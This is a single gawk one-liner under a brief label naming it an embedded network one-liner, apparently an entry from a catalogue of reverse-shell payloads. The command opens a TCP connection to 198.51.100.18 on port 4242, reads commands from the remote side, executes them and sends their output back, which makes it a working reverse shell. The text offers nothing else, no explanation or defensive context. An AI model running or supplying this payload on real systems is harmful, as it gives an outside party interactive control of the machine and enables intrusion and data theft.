# class: embedded, gawk network; style: one-liner
gawk 'BEGIN {s = "/inet/tcp/0/198.51.100.18/4242"; while (1) { printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) }}'
